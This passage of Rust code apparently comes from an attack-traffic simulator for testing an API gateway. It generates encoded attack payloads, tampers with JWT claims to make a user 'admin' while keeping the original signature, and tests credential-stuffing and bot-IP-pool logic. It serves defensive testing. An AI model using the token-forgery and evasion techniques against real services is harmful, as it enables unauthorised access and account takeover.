    obj.insert(
        "scope".into(),
        serde_json::Value::String("api admin".into()),
    );
    let edited = serde_json::to_vec(&claims).ok()?;
    Some(format!("{h}.{}.{s}", URL_SAFE_NO_PAD.encode(edited)))
}

/// Payloads for the classes asked for (all when empty), interleaved so
/// consecutive indices rotate through classes.
fn payloads(classes: &[PayloadClass]) -> Vec<Payload> {
    let classes: &[PayloadClass] = if classes.is_empty() {
        &PAYLOAD_CLASSES
    } else {
        classes
    };
    let mut out = Vec::new();
    for k in 0..PAYLOADS_PER_CLASS {
        for &c in classes {
            let list = bases(c);
            let raw = list[k % list.len()];
            let query = format!("q={}&page=1", query_encode(raw));
            let body = if c == PayloadClass::Malformed && k % 2 == 0 {
                // A truncated JSON document carrying the payload.
                format!("{{\"q\":\"{}\",\"items\":[1,2", json_escape(raw)).into_bytes()
            } else {
                format!("{{\"q\":\"{}\",\"page\":1}}", json_escape(raw)).into_bytes()
            };
            out.push(Payload { query, body });
        }
    }
    out
}

/// Encodes what a browser would in a query value; existing `%` escapes are
/// kept, since attackers send pre-encoded evasions on purpose.
fn query_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for &b in s.as_bytes() {
        match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' | b'%' => {
                out.push(b as char)
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{b:02X}")),
        }
    }
    out
}

fn json_escape(s: &str) -> String {
    let quoted = serde_json::to_string(s).expect("a string always serialises");
    quoted[1..quoted.len() - 1].to_owned()
}

#[cfg(test)]
mod unit {
    use super::*;

    #[test]
    fn pool_addresses_are_distinct_within_a_pool_and_spread_over_the_asked_prefixes() {
        let h = rng::fnv1a64(b"bots");
        let mut seen = std::collections::BTreeSet::new();
        let mut prefixes = std::collections::BTreeSet::new();
        for i in 0..2_540 {
            let IpAddr::V4(a) = pool_ip(h, i, 10) else {
                panic!("v4")
            };
            seen.insert(a);
            let o = a.octets();
            prefixes.insert([o[0], o[1], o[2]]);
            assert!(o[0] != 10 && o[0] != 127 && o[0] <= 224 && o[3] >= 1);
        }
        assert_eq!(seen.len(), 2_540);
        assert_eq!(prefixes.len(), 10);
    }

    #[test]
    fn the_leaked_list_holds_about_the_valid_ratio_of_real_passwords() {
        let cfg: AttackConfig = toml::from_str(
            r#"
            name = "s"
            kind = "credential_stuffing"
            start = "0s"
            end = "1s"
            shape = { kind = "constant", rate = "1/s" }
            valid_ratio = 0.1
            "#,
        )
        .unwrap();
        let a = Attacker {
            name_hash: rng::fnv1a64(b"s"),
            ..dummy(cfg)
        };
        let valid = (0..20_000).filter(|&c| a.combo(c, 500).1).count();
        assert!((1_800..2_200).contains(&valid), "{valid}");
    }

    #[test]
    fn tampering_keeps_the_signature_and_changes_the_subject() {
        let claims = URL_SAFE_NO_PAD.encode(br#"{"sub":"alice","scope":"api"}"#);
        let t = format!("aGVhZA.{claims}.c2ln");
        let out = tamper(&t).unwrap();
        let parts: Vec<&str> = out.split('.').collect();
        assert_eq!(parts[0], "aGVhZA");
        assert_eq!(parts[2], "c2ln");
        let edited = String::from_utf8(URL_SAFE_NO_PAD.decode(parts[1]).unwrap()).unwrap();
        assert!(edited.contains("\"sub\":\"admin\""), "{edited}");
    }

    fn dummy(cfg: AttackConfig) -> Attacker {
        Attacker {
            class: 1,
            source: 0,
            routes: vec![0],
            login_route: None,
            arrivals: Arrivals::new(&cfg.shape, cfg.process, Instant::ZERO, None),
            rng: actor_rng(0, "x"),
            start: Instant::ZERO,
            name_hash: 0,
            subnets: 1,
            ip_cursor: 0,
            seq: 0,
            accounts: Vec::new(),
            forged: Vec::new(),
            payloads: Vec::new(),
            verdicts: Vec::new(),
            taken: Vec::new(),
            login_ns_carry: 0,
            gateway_ns_carry: 0,
            outcome: AttackOutcome::default(),
            cfg,
        }
    }
}
